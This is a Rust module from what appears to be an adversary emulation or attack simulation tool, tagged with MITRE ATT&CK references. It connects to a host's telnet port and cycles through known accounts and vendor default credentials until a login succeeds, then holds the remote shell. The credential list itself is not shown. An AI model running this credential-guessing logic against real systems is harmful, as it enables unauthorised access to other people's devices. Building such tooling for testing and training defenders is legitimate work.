//! Opens a remote shell: walks in where none asks, else tries the accounts it knows and those that makers ship.

use super::craft::accounts::Logins;
use super::craft::contact::Contact;
use super::craft::part;
use super::{Progress, Technique};
use crate::catalog::Entry;
use crate::net::port::{Hands, StreamId};
use crate::net::port::{Input, SocketEvent};
use crate::parameters::{Host, Parameters};
use crate::wire::Message;
use crate::wire::shell::{Shell, TELNET_PORT};

use super::knowledge::HeldShell;

/// Technique `open-shell`.
#[derive(Debug)]
pub(super) struct OpenShell;

/// What a step gives to it.
#[derive(Clone, Debug, Parameters)]
pub(super) struct Params {
    /// Host with the shell.
    target: Host,
}

/// What an attempt remembers.
#[derive(Clone, Debug, Default)]
pub(super) struct State {
    contact: Contact,
    logins: Logins,
}
part!(State.contact: Contact);
part!(State.logins: Logins);

type Step<'s, 'a, 'c> = super::Step<'s, 'a, 'c, OpenShell>;

static ENTRY: Entry = Entry {
    id: "open-shell",
    title: "Open a remote shell",
    summary: "Connects to the telnet port of a host. Walks in where no login is asked for; otherwise tries known accounts and then the usual \
              ones of makers, until one is let in or none is left.",
    parameters: Params::PARAMETERS,
    relations: Params::RELATIONS,
    references: &["T1021", "T1078.001", "T0886", "T0891"],
};

fn say(hands: &mut Hands<'_, '_>, stream: StreamId, shell: Shell) {
    hands.send(stream, Message::Shell(Box::new(shell)));
}

impl Technique for OpenShell {
    type Params = Params;
    type State = State;
    const ENTRY: &'static Entry = &ENTRY;
    const STAGES: &'static [&'static str] = &["find", "connect", "log in", "in the shell"];

    fn act(step: &mut Step<'_, '_, '_>, input: &Input) -> Progress {
        let name = &step.params.target;
        match input {
            Input::Begin => match step.find(name) {
                Some(ip) => step.connect(ip, TELNET_PORT),
                None => Progress::Wait,
            },
            Input::Socket(SocketEvent::Resolved { ip: Some(ip), .. }) => {
                step.found(name, *ip);
                step.connect(*ip, TELNET_PORT)
            }
            Input::Socket(SocketEvent::Resolved { ip: None, .. }) => {
                Progress::Failed("no such name, or no name server")
            }
            Input::Socket(SocketEvent::Opened(_)) => Progress::Reached(2),
            Input::Socket(SocketEvent::Failed { refused: true, .. }) => {
                Progress::Failed("connection refused")
            }
            Input::Socket(SocketEvent::Failed { refused: false, .. }) => {
                Progress::Failed("no answer")
            }
            Input::Socket(SocketEvent::Message { stream, message }) => {
                let Message::Shell(shell) = &**message else {
                    return Progress::Wait;
                };
                match **shell {
                    Shell::Banner { open: true } | Shell::LoginResult { accepted: true } => {
                        step.knowledge.shell = Some(HeldShell {
                            stream: *stream,
                            onward: false,
                        });
                        Progress::Done("prompt")
                    }
                    Shell::Banner { open: false } | Shell::LoginResult { accepted: false } => {
                        match step.next_account() {
                            Some((user, password)) => {
                                say(step.hands, *stream, Shell::Login { user, password });
                                Progress::Wait
                            }
                            None => Progress::Failed("every login refused"),
                        }
                    }
                    _ => Progress::Wait,
                }
            }
            _ => Progress::Wait,
        }
    }
}
